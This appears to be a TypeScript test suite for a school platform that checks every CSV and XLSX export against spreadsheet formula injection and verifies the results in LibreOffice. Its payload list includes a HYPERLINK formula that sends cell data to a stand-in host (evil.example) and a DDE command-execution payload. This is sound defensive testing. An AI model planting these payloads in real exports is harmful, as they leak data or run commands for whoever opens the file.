import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { unzipSync } from 'fflate';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { aStaff, signedInAs } from '../platform/testing/builders.ts';
import { buildTestApp } from '../platform/testing/app.ts';
import { rolledBackDatabase } from '../platform/testing/rolled-back.ts';
import { workbookOf } from '../platform/web/console/workbook.ts';
import { csvOf } from '../rosters/export/csv.ts';
import { standAt, WEDNESDAY } from '../timetable/testing/school.ts';
import { hatsOf } from './hats.ts';
import { ask, operationsOf, type Operation } from './operations.ts';
import { aTenant } from './tenants.ts';
import { asWhoMay } from './who-may.ts';

/**
 * C-08: names that begin like a formula, in every table that leaves the product, are texts for a spreadsheet program. That
 * program is LibreOffice itself where it is installed.
 */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1;"x")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
];
const TABLE_TYPE = /spreadsheetml|application\/zip|text\/csv/;

const database = await rolledBackDatabase();
const { app, db, ctx, clock } = await buildTestApp(database);

const operations = operationsOf(app);
/** Every table that leaves the product, by call and form. */
const files = new Map<string, Uint8Array>();
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'nol-exports-'));
  await standAt(db, WEDNESDAY);
  await clock.refresh(db);
  const own = await aTenant(ctx, '');
  const hats = hatsOf(ctx, own, await aTenant(ctx, ''));
  await nameByFormulas();
  const world = { database, operations, hats, ids: own.ids };
  await asWhoMay(
    world,
    ({ method, answers }) => method === 'GET' && TABLE_TYPE.test(answers),
    async ({ question, operation, asking }) => {
      // The one table of a unit above schools; the proofs ask about a school.
      if (question.operation === 'getUnitWorkbook') return;
      for (const form of formsOf(operation)) keep(question.operation, form, await ask(app, asking(form)));
    },
  );
  const officer = await aStaff(db, { orgId: own.countyId, role: 'bureauOfficer' });
  const headers = await signedInAs(db, officer.accountId, officer);
  const url = `/api/orgs/${own.countyId}/daily-figure.xlsx`;
  keep('getUnitWorkbook', {}, await ask(app, { method: 'GET', url, headers }));
  const rows = FORMULAS.map((text) => [text, text]);
  files.set('console.xlsx', workbookOf('=1+1', [...rows]));
  files.set('text.csv', new TextEncoder().encode(csvOf(['a', 'b'], rows)));
}, 120_000);
afterAll(() => rm(folder, { recursive: true, force: true }));

/** Every person, class, course, topic and unit is called like a formula, one after the other. */
async function nameByFormulas(): Promise<void> {
  const next = sql`(${sql.val(FORMULAS)}::text[])[(1 + row_number() OVER (ORDER BY id) % ${FORMULAS.length}::int)::int]`;
  await sql`UPDATE persons SET name = n.name FROM (SELECT id, ${next} AS name FROM persons) n WHERE n.id = persons.id`.execute(
    db,
  );
  await sql`UPDATE classes SET name = n.name || right(classes.name, 8) FROM (SELECT id, ${next} AS name FROM classes) n WHERE n.id = classes.id`.execute(
    db,
  );
  await sql`UPDATE lessons SET topic = n.topic FROM (SELECT id, ${next} AS topic FROM lessons) n WHERE n.id = lessons.id`.execute(
    db,
  );
  await sql`UPDATE courses SET title = n.title || right(courses.title, 8) FROM (SELECT id, ${next} AS title FROM courses) n WHERE n.id = courses.id`.execute(
    db,
  );
  await sql`UPDATE orgs SET name = n.name FROM (SELECT id, ${next} AS name FROM orgs) n WHERE n.id = orgs.id`.execute(
    db,
  );
}

/** Once for each `format` the call knows. */
function formsOf({ parameters }: Operation): Record<string, string>[] {
  const schema = parameters.find(({ name }) => name === 'format')?.schema;
  const known = schema?.enum ?? schema?.anyOf?.flatMap((one) => one.enum ?? [one.const]);
  return known ? known.map((format) => ({ format: String(format) })) : [{}];
}

function keep(
  operation: string,
  { format = '' }: Record<string, string>,
  { statusCode, rawPayload: bytes }: Awaited<ReturnType<typeof ask>>,
): void {
  if (statusCode !== 200) throw new Error(`${operation} ${format} answered ${statusCode}`);
  const name = `${operation}${format}`;
  const parts = unzipSync(bytes);
  if ('xl/workbook.xml' in parts) files.set(`${name}.xlsx`, bytes);
  else for (const [part, text] of Object.entries(parts)) files.set(`${name}-${part}`, text);
}

/** A workbook or text table as LibreOffice opens it, in its own plain form. */
async function reopened(names: readonly string[], options: readonly string[]): Promise<Map<string, string>> {
  mkdirSync(path.join(folder, 'out'), { recursive: true });
  await promisify(execFile)('soffice', [
    `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`,
    '--headless',
    ...options,
    '--convert-to',
    'fods',
    '--outdir',
    path.join(folder, 'out'),
    ...names.map((name) => path.join(folder, name)),
  ]);
  const read = (name: string) =>
    readFileSync(path.join(folder, 'out', name.replace(/\.\w+$/, '.fods')), 'utf8');
  return new Map(names.map((name) => [name, read(name)]));
}

const formulasIn = (sheet: string) => sheet.match(/table:formula="[^"]*"/g) ?? [];

/** Comma, quotes, UTF-8, and whatever looks like a formula is computed. */
const CSV = '--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true';

test('every table that leaves the product is found', () => {
  const names = [...files.keys()];
  const calls = operations.filter(({ answers }) => TABLE_TYPE.test(answers)).map(({ id }) => id);
  expect(calls.length).toBeGreaterThan(6);
  expect(calls.filter((id) => !names.some((name) => name.startsWith(id)))).toEqual([]);
  expect(names).toEqual(
    expect.arrayContaining(['exportRosterworkbook.xlsx', 'exportRosteroneroster-users.csv']),
  );
});

test('no text table has a cell that begins like a formula', () => {
  const texts = [...files].filter(([name]) => name.endsWith('.csv'));
  const wrong = texts.flatMap(([name, bytes]) =>
    [...new TextDecoder().decode(bytes).matchAll(/(?:^|\r\n|,)"?([=+@＝＋－＠\t\r][^,\n]+)/g)].map(
      ([, cell]) => `${name}: ${cell}`,
    ),
  );
  expect(wrong).toEqual([]);
});

test('LibreOffice finds text, and no formula, in any of them', async (context) => {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
  } catch {
    return context.skip('LibreOffice is not installed');
  }
  for (const [name, bytes] of files) writeFileSync(path.join(folder, name), bytes);
  writeFileSync(path.join(folder, 'control.csv'), 'a\r\n=1+1\r\n');
  const names = [...files.keys()];
  const books = await reopened(
    names.filter((name) => name.endsWith('.xlsx')),
    [],
  );
  const texts = await reopened(['control.csv', ...names.filter((name) => name.endsWith('.csv'))], [CSV]);
  // LibreOffice would compute them.
  expect(formulasIn(texts.get('control.csv') ?? '')).toHaveLength(1);
  texts.delete('control.csv');
  const found = [...books, ...texts].flatMap(([name, sheet]) =>
    formulasIn(sheet).map((formula) => `${name}: ${formula}`),
  );
  expect(found).toEqual([]);
  for (const one of ['console.xlsx', 'exportRosterworkbook.xlsx'])
    expect(books.get(one)).toMatch(/<text:p>[=+\-@＝＋－＠]\S/);
}, 240_000);
